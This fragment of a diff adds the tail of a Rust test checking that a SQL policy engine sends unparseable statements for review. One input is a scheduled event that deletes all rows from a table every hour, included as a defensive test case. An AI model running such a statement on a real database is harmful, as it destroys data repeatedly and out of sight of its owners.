+            "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM t",
+        ),
+    ] {
+        let e = sql::classify(sql_text, dialect).unwrap_err().to_string();
+        let op = Operation::SqlUnparsed {
+            text: sql_text,
+            error: &e,
+        };
+        let d = p.decide(&w, &pg(), &op);
+        if d.verdict != Verdict::Review {
+            failures.push(format!("unparsed {sql_text}: got {}", d.verdict));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
